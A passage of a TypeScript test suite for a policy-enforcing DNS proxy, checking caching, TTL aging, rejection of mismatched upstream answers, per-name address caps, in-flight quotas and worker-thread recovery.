          decide: () => ({ verdict: 'permitted', tier: 2, ruleName: 'allow', policy: POLICY, learnFor: [ALLOW_RULE] }),
        },
      });
      const first = await udpAsk(port, encodeQuery('cached.openai.com'));
      assert.deepEqual(addressesOf(first), ['198.18.100.44']);
      let learnedByB: number[] = [];
      const second = await udpAsk(port, encodeQuery('cached.openai.com', 'A', 999), {
        localAddress: '127.0.0.2',
        onAnswer: () => (learnedByB = sink.calls.filter((call) => call.workloadId === 8).flatMap(() => [8])),
      });
      assert.equal(second.id, 999, "the cached answer carries the asking client's id");
      assert.deepEqual(addressesOf(second), ['198.18.100.44']);
      assert.deepEqual(learnedByB, [8], 'the second workload learned the cached addresses before its answer arrived');
      assert.equal(resolver.queries.filter((q) => q.name === 'cached.openai.com').length, 1, 'asked upstream once');
      assert.equal(events.at(-1)?.upstreamLatencyMs, null, 'the event says the answer came from the cache');
      assert.equal(events.at(-1)?.upstream, `127.0.0.1:${resolver.upstream.port}`);
      await sleep(1100);
      const later = await udpAsk(port, encodeQuery('cached.openai.com'));
      const ttl = later.answers?.[0] && 'ttl' in later.answers[0] ? later.answers[0].ttl : undefined;
      assert.ok(ttl !== undefined && ttl < 300 && ttl >= 295, `the cached TTL is aged (got ${ttl})`);
      for (let i = 0; i < 2; i++) assert.equal(rcodeOf(await udpAsk(port, encodeQuery('gone.openai.com'))), 'NXDOMAIN');
      assert.equal(resolver.queries.filter((q) => q.name === 'gone.openai.com').length, 2, 'NXDOMAIN is asked upstream each time');
    } finally {
      resolver.socket.close();
    }
  });

  test('concurrent queries share a few upstream sockets with random ids; answers echoing another question are dropped', async () => {
    // Each query first gets an answer with its id but another question (dropped and counted), then the real one.
    const resolver = await scriptedResolver((query) => [
      answerWith(query, 'NOERROR', '198.18.66.66', 'evil.example'),
      answerWith(query, 'NOERROR', '198.18.100.10'),
    ]);
    try {
      const { port, proxy, sink } = await startProxy({
        upstreams: [resolver.upstream],
        oracle: {
          workloadFor: () => WORKLOAD,
          decide: () => ({ verdict: 'permitted', tier: 2, ruleName: 'allow', policy: POLICY, learnFor: [ALLOW_RULE] }),
        },
      });
      const names = Array.from({ length: 60 }, (_, i) => `n${i}.pool.test`);
      const answers = await Promise.all(names.map((name, i) => udpAsk(port, encodeQuery(name, 'A', i + 1))));
      for (const answer of answers) assert.deepEqual(addressesOf(answer), ['198.18.100.10']);
      assert.ok(!sink.learnedSoFar().includes('198.18.66.66'), 'no address of a mismatched answer is learned');
      assert.equal(proxy.stats().upstreamResponsesIgnored, 60);
      const ports = new Set(resolver.queries.map((q) => q.port));
      assert.ok(ports.size >= 2 && ports.size <= 8, `queries spread over a few reused source ports (got ${ports.size})`);
      const ids = resolver.queries.map((q) => `${q.port}/${q.id}`);
      assert.equal(new Set(ids).size, ids.length, 'no two queries on one socket share an id');
    } finally {
      resolver.socket.close();
    }
  });

  test('NameRefresher resolves exact names itself, learns A and AAAA, and re-learns before the TTL expires', async () => {
    const sink = new SlowSink();
    const refresher = new NameRefresher({
      upstreams: [upstream],
      sink: sink.refresherSink(),
      lifetime,
      maxIpsPerName: 1000,
      maxRefreshSeconds: 60,
    });
    try {
      refresher.setNames([
        { workloadId: 7, ruleIds: [ALLOW_RULE], name: 'Short.OpenAI.com.' },
        { workloadId: 7, ruleIds: [102], name: 'short.openai.com' },
      ]);
      for (let attempt = 0; attempt < 1000 && sink.calls.length < 2; attempt += 1) await sleep(10);
      assert.ok(sink.calls.length >= 2, 'the name was resolved again after its TTL');
      for (const call of sink.calls.slice(0, 2)) {
        assert.equal(call.workloadId, 7);
        assert.deepEqual(call.ruleIds, [ALLOW_RULE, 102]);
        assert.deepEqual([...call.ips].sort(), ['198.18.100.20', 'fd00:eb:100::20']);
        assert.ok(call.ttlSeconds >= 2, 'learned entries outlive the 1 s refresh interval');
      }
      assert.ok(queryLog().includes('query[AAAA] short.openai.com from 127.0.0.1'));
      refresher.setNames([]);
      assert.deepEqual(refresher.names(), []);
      assert.throws(() => refresher.setNames([{ workloadId: 7, ruleIds: [1], name: '*.openai.com' }]), /not an exact DNS name/);
    } finally {
      await refresher.stop();
    }
  });
  describe('in a worker thread (DnsProxyHost, as the agent runs it)', () => {
    interface HostLearnCall {
      ruleIds: number[];
      ips: string[];
      name: string;
    }

    async function startHost(
      policy: DnsPolicySnapshot,
      resolver: ResolverAddress = upstream,
      {
        workers = 1,
        maxIpsPerName = 1000,
        settings = {},
      }: { workers?: number; maxIpsPerName?: number; settings?: Partial<WorkerProxySettings> } = {},
    ) {
      const learns: HostLearnCall[] = [];
      const events: DnsDecisionEvent[] = [];
      const exits: string[] = [];
      const host = new DnsProxyHost({
        settings: {
          listen: ['127.0.0.1'],
          port: 0,
          upstreams: [resolver],
          deniedRcode: 'NXDOMAIN',
          lifetime,
          ...DEFAULT_CAPS,
          ...settings,
        },
        workers,
        maxIpsPerName,
        policy,
        learn: (_workloadId, ruleIds, ips, ttlSeconds, name) => {
          learns.push({ ruleIds, ips, name });
          return process.hrtime.bigint() + BigInt(ttlSeconds + lifetime.graceSeconds + 1) * 1_000_000_000n;
        },
        onEvents: (batch) => events.push(...batch),
        onWorkerExit: (reason) => exits.push(reason),
        sockets: loadNative(),
      });
      await host.start();
      return { host, port: (host.addresses()[0] as { port: number }).port, learns, events, exits };
    }

    test('decides from the policy snapshot, learns through the main thread before the answer, and reports events and counters', async () => {
      const { host, port, learns, events } = await startHost(policySnapshot(['api.openai.com']));
      try {
        let learnedAtAnswer: string[] = [];
        const answer = await udpAsk(port, encodeQuery('api.openai.com'), {
          onAnswer: () => (learnedAtAnswer = learns.flatMap((l) => l.ips)),
        });
        assert.deepEqual(addressesOf(answer), ['198.18.100.10']);
        assert.deepEqual(learnedAtAnswer, ['198.18.100.10'], 'the main thread learned the address before the answer arrived');
        assert.deepEqual(learns, [{ ruleIds: [ALLOW_RULE], ips: ['198.18.100.10'], name: 'api.openai.com' }]);
        // The kernel already holds it long enough: the same answer again is released without asking the main thread.
        assert.deepEqual(addressesOf(await udpAsk(port, encodeQuery('api.openai.com', 'A', 77))), ['198.18.100.10']);
        assert.equal(learns.length, 1);
        assert.equal(rcodeOf(await udpAsk(port, encodeQuery('httpbin.org'))), 'NXDOMAIN');
        await waitUntil('three decision events', () => events.length === 3);
        assert.deepEqual(
          events.map((e) => [e.query, e.verdict, e.workloadKey]),
          [
            ['api.openai.com', 'permitted', WORKLOAD.key],
            ['api.openai.com', 'permitted', WORKLOAD.key],
            ['httpbin.org', 'denied', WORKLOAD.key],
          ],
        );
        await waitUntil('the counters', () => host.stats().queries === 3);
        assert.equal(host.stats().denied, 1);
        // A new policy: the name is denied from now on, and a permitted answer is learned again (the kernel entries of
        // a changed policy are not assumed).
        host.setPolicy(policySnapshot(['chat.openai.com']));
        await waitUntil(
          'the new policy to deny api.openai.com',
          async () => rcodeOf(await udpAsk(port, encodeQuery('api.openai.com'))) === 'NXDOMAIN',
        );
        assert.deepEqual(addressesOf(await udpAsk(port, encodeQuery('chat.openai.com'))), ['198.18.100.10']);
        assert.equal(learns.at(-1)?.name, 'chat.openai.com');
      } finally {
        await host.stop();
      }
    });

    test('two workers draw on one per-name address cap, held in the main thread: the name never teaches more than the cap', async () => {
      // Each answer lists the 40 addresses from a different first one: a cap per worker would admit different ones.
      let answered = 0;
      const resolver = await scriptedResolver((query) => {
        const first = answered++;
        const answers = Array.from({ length: 40 }, (_, i) => ({
          type: 'A' as const,
          name: 'many.cdn.example',
          ttl: 60,
          data: `198.18.101.${((first + i) % 40) + 1}`,
        }));
        return [
          dnsPacket.encode({
            type: 'response',
            id: query.id ?? 0,
            flags: dnsPacket.RECURSION_AVAILABLE,
            questions: query.questions,
            answers,
          }),
        ];
      });
      const { host, port, learns, events } = await startHost(policySnapshot(['many.cdn.example']), resolver.upstream, {
        workers: 2,
        maxIpsPerName: 30,
        // Every query goes to the resolver: a cached answer would start from the same address.
        settings: { answerCacheEntries: 0 },
      });
      try {
        // Each query from its own socket: the kernel hands each to whichever worker reads first.
        const answers = await Promise.all(Array.from({ length: 16 }, (_, i) => udpAsk(port, encodeQuery('many.cdn.example', 'A', i + 1))));
        for (const answer of answers) assert.equal(answer.flag_tc, true, 'the 40 addresses do not fit a UDP answer');
        const learnedIps = new Set(learns.flatMap((learn) => learn.ips));
        assert.equal(learnedIps.size, 30, 'no address past the cap reached the datapath');
        // No answer teaches all 40 addresses, so every one asks the main thread and every one has 10 over the cap.
        await waitUntil('10 addresses over the cap counted for each query', () => host.stats().addressesOverCap === 16 * 10);
        await waitUntil('the decision events', () => events.length === 16);
        for (const event of events) assert.match(event.reason ?? '', /10 address\(es\) not learned/);
      } finally {
        await host.stop();
        resolver.socket.close();
      }
    });

    test('a worker that ends gives back the in-flight slots its queries held: the shared quota does not leak', async () => {
      const held: dnsPacket.DecodedPacket[] = [];
      const resolver = await scriptedResolver((query) =>
        query.questions?.[0]?.name === 'held.example' ? (held.push(query), []) : [answerWith(query, 'NOERROR', '198.18.100.10')],
      );
      const { host, port } = await startHost(policySnapshot(['held.example', 'answered.example']), resolver.upstream, {
        workers: 2,
        settings: { maxInflightQueries: 4, maxInflightQueriesPerWorkload: 4, upstreamTimeoutMs: 30_000 },
      });
      try {
        // Four queries the resolver never answers hold the node's four slots, over both workers.
        const holding = Array.from({ length: 4 }, (_, i) => udpAsk(port, encodeQuery('held.example', 'A', i + 1)).catch(() => null));
        await waitUntil('the held queries to reach the resolver', () => held.length === 4);
        // Calibration: while they are in flight, another query is dropped at the node cap, whichever worker reads it.
        await assert.rejects(udpAsk(port, encodeQuery('answered.example')), /no UDP answer/);
        await waitUntil('the drop to be counted', () => host.stats().droppedOverload === 1);
        await Promise.all([host.terminateWorker(0), host.terminateWorker(1)]);
        await waitUntil('both workers replaced', () => host.workerThreadIds.every((id) => id !== null));
        assert.deepEqual(addressesOf(await udpAsk(port, encodeQuery('answered.example'))), ['198.18.100.10']);
        await Promise.all(holding);
      } finally {
        await host.stop();
        resolver.socket.close();
      }
    });

    test('a learn for a rule withdrawn while the answer was on its way is refused: SERVFAIL, nothing learned', async () => {
      const held: { query: dnsPacket.DecodedPacket; from: dgram.RemoteInfo }[] = [];
      const resolver = await scriptedResolver((query, from) => (held.push({ query, from }), []));
      const { host, port, learns } = await startHost(policySnapshot(['api.openai.com']), resolver.upstream);
      try {
        // Decided under the policy that permits it; the resolver holds the answer while the rule is withdrawn.
        const asked = udpAsk(port, encodeQuery('api.openai.com'));
        await waitUntil('the query to reach the resolver', () => held.length === 1);
        host.setPolicy({ ...policySnapshot([]), workloads: [{ ...WORKLOAD, addresses: ['127.0.0.1'], rules: [] }] });
        const { query, from } = held[0]!;
        resolver.socket.send(answerWith(query, 'NOERROR', '198.18.100.10'), from.port, from.address);
        assert.equal(rcodeOf(await asked), 'SERVFAIL');
        assert.deepEqual(learns, []);
        await waitUntil('the learn failure to be counted', () => host.stats().learnFailures === 1);
      } finally {
        await host.stop();
        resolver.socket.close();
      }
    });

    test('a worker that dies is replaced on the same sockets: queries sent while none runs are answered by the next', async () => {
      const before = openDescriptors();
      const { host, port, exits } = await startHost(policySnapshot(['api.openai.com']));
      try {
        assert.deepEqual(addressesOf(await udpAsk(port, encodeQuery('api.openai.com'))), ['198.18.100.10']);
        const [first] = host.workerThreadIds;
        await host.terminateWorker();
        assert.deepEqual(host.workerThreadIds, [null], 'no worker runs while these queries are sent');
        const answers = await Promise.all(Array.from({ length: 20 }, (_, i) => udpAsk(port, encodeQuery('api.openai.com', 'A', i + 1))));
        for (const answer of answers) assert.deepEqual(addressesOf(answer), ['198.18.100.10']);
        assert.notEqual(host.workerThreadIds[0], first);
        assert.equal(host.restarts, 1);
        assert.equal(exits.length, 1);
      } finally {
        await host.stop();
      }
      assert.equal(openDescriptors(), before, 'every socket descriptor of both workers and the host is closed');
    });
  });
});
